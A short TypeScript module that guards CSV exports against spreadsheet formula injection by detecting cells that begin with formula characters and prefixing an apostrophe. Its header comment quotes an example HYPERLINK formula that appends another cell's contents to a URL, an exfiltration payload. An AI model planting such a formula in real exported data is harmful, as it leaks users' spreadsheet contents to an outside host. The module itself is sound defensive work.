// A CSV cell that starts with `=`, `+`, `-` or `@` is run as a formula by spreadsheet programs
// (Excel, LibreOffice, Google Sheets), and so is one starting with a tab or CR after some
// programs strip them: `=HYPERLINK("http://…?"&A1, "click")` sends other cells away. The usual
// defence (OWASP "CSV Injection") is a leading `'`, which spreadsheets show as text and hide.

const FORMULA_START = /^[=+\-@\t\r]/;

/** Does a spreadsheet read this cell as a formula? */
export function looksLikeFormula(text: string): boolean {
  return FORMULA_START.test(text);
}

/** `text`, with a `'` in front when a spreadsheet would otherwise run it. */
export function protectFormula(text: string): string {
  return looksLikeFormula(text) ? `'${text}` : text;
}
